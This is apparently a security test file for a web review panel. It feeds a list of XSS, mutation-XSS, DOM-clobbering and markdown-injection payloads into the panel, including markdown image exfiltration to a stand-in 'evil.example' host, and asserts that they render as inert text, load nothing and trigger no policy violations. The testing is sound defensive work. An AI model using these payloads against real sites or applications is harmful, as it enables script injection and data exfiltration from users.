import assert from 'node:assert/strict';
import { openPanelPage, type PanelPage } from '../support/panelPage/panelPage.ts';
import { batch, finished, hello, reviewScript, started, text } from '../support/panelPage/reviewScript.ts';

/** Each would load something or call the canary `reportScript`, if it became more than text. */
const attacks: readonly string[] = [
  '<script>reportScript("script")</script>',
  '<img src=x onerror=reportScript("onerror")>',
  '<img srcset="https://evil.example/a.png 2x"><picture><source srcset="https://evil.example/b.png"></picture>',
  '![exfiltrated](https://evil.example/?q=secret)',
  '![ref][pic]\n\n[pic]: https://evil.example/ref.png',
  '[![nested](https://evil.example/nested.png)](https://example.com)',
  '<svg onload=reportScript("svg")><image href="https://evil.example/svg.png"/></svg>',
  '<svg><style><img src=x onerror=reportScript("mxss")></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=reportScript(1)&gt;">',
  '<iframe srcdoc="<script>parent.reportScript(\'iframe\')</script>"></iframe>',
  '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>',
  '<link rel=stylesheet href=https://evil.example/s.css><meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/"><form action="https://evil.example/"><button autofocus onfocus=reportScript(1)>x</button></form>',
  '<div style="background:url(https://evil.example/css.png)">styled</div>',
  '[a](javascript:reportScript("link")) [b](JaVaScRiPt:reportScript("case")) [c](data:text/html,<script>reportScript(1)</script>)',
  '[d](javascript&colon;reportScript(1)) [e](<java\nscript:reportScript(1)>) [f](vscode:extension/evil) [g](command:x) [h](//evil.example)',
  '<javascript:reportScript("autolink")> <https://example.com/"onmouseover="reportScript(1)>',
  '[x](https://example.com/"onclick="reportScript(1)) [y](https://example.com "t\\" onclick=reportScript(1) x=\\"")',
  '```"><img src=x onerror=reportScript("lang")>\ncode\n```',
  '```suggestion\n</code></pre><img src=x onerror=reportScript("fence")>\n```',
  '`</code><img src=x onerror=reportScript("code")>`',
  '| <img src=x onerror=reportScript("cell")> | b |\n|---|---|\n| ${reportScript(1)} | {{constructor.constructor("reportScript(1)")()}} |',
  '&lt;img src=x onerror=reportScript("entity")&gt; &#60;script&#62;reportScript("numeric")&#60;/script&#62;',
  '<a id=app name=app href="https://evil.example">clobber</a> <form id=cookie><input name=attributes></form>',
  '<!-- --!><img src=x onerror=reportScript("comment")> -->',
  '<details open ontoggle=reportScript("toggle")><summary>s</summary></details>',
];

describe('panel against hostile text', () => {
  let panel: PanelPage;
  before(async () => {
    panel = await openPanelPage({ viewport: { width: 900, height: 700 } });
  });
  beforeEach(async () => {
    await panel.load();
    await panel.send(hello);
  });
  afterEach(() => {
    assert.deepEqual(panel.incidents(), []);
  });
  after(() => panel.close());

  const elements = () =>
    panel.page.evaluate(() => {
      const found = [...document.querySelectorAll('.prose, .prose *')];
      return {
        tags: [...new Set(found.map((element) => element.tagName.toLowerCase()))].sort(),
        attributes: [...new Set(found.flatMap((element) => element.getAttributeNames()))].sort(),
        addresses: [
          ...new Set(
            [...document.querySelectorAll('.prose a')].map(
              (link) => new URL((link as HTMLAnchorElement).href).protocol,
            ),
          ),
        ],
      };
    });

  const hover = async () => {
    for (const link of await panel.page.locator('.prose a').all()) await link.hover();
  };

  it('faults 28 and 29: shows it as text, loads nothing, runs nothing', async () => {
    await panel.send(reviewScript('1').batch(started(), text(attacks.join('\n\n')), finished));
    await panel.next('ack');
    await hover();
    const { tags, attributes, addresses } = await elements();
    assert.deepEqual(
      tags.filter(
        (tag) =>
          ![
            'a',
            'code',
            'div',
            'figcaption',
            'figure',
            'p',
            'pre',
            'samp',
            'span',
            'table',
            'tbody',
            'td',
            'th',
            'thead',
            'tr',
          ].includes(tag),
      ),
      [],
    );
    // `data-far` is the page's own mark of what is out of view.
    assert.deepEqual(attributes, ['class', 'data-far', 'href', 'title']);
    assert.deepEqual(addresses, ['https:']);
    const shown = await panel.page.locator('.prose').innerText();
    for (const words of [
      '<script>reportScript("script")</script>',
      '![exfiltrated](https://evil.example/?q=secret)',
      '<svg onload=',
    ]) {
      assert.ok(shown.includes(words), `${words} is missing`);
    }
  });

  it('fault 30: is the same however the text is cut', async () => {
    const whole = reviewScript('whole');
    await panel.send(whole.batch(started(), text(attacks.join('\n\n')), finished));
    await panel.next('ack');
    const expected = await panel.page.locator('.prose').innerHTML();

    await panel.load();
    await panel.send(hello);
    const pieces = reviewScript('pieces');
    await panel.send(pieces.batch(started()));
    await panel.next('ack');
    const everything = attacks.join('\n\n');
    // As the host does it: one batch at a time, the next after its acknowledgement.
    for (let from = 0; from < everything.length; from += 7) {
      await panel.send(pieces.batch(text(everything.slice(from, from + 7))));
      await panel.next('ack');
    }
    await panel.send(pieces.batch(finished));
    await panel.next('ack');
    assert.equal(await panel.page.locator('.prose').innerHTML(), expected);
  });

  it('fault 29: file names, models, errors, notices and reasoning that carry HTML are text', async () => {
    const attack = '<img src=x onerror=reportScript("field")>';
    await panel.send(
      batch(
        reviewScript('1').slice(
          { ...started({ label: `src/${attack}.ts`, symbol: attack }), model: attack, endpoint: attack } as ReturnType<
            typeof started
          >,
          { type: 'notice', notice: { kind: 'adjusted', detail: attack } },
          { type: 'reasoning', text: attack },
          {
            type: 'error',
            kind: 'server',
            message: attack,
            detail: `${attack} ${attack}`,
            retryable: true,
            resumable: false,
          },
          { type: 'ended', outcome: 'failed' },
        ),
        reviewScript('"><img src=x onerror=reportScript("id")>').slice(started({ label: attack })),
      ),
    );
    await panel.next('ack');
    await panel.send({ type: 'show', reviewId: '1' });
    await panel.page.locator('.outcome').waitFor();
    assert.equal(await panel.page.locator('img').count(), 0);
  });

  it('would see what gets past, and the policy would stop it', async () => {
    await panel.page.evaluate(() => {
      document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/past.png' }));
    });
    await panel.page.waitForFunction(() => document.querySelector('img')?.complete);
    assert.deepEqual(panel.incidents(), [
      'request: https://evil.example/past.png',
      'violation: img-src: https://evil.example/past.png ',
    ]);
    await assert.rejects(
      panel.page.evaluate(() => {
        document.body.innerHTML = '<b>raw</b>';
      }),
      /TrustedHTML/,
    );
    await panel.load();
  });
});
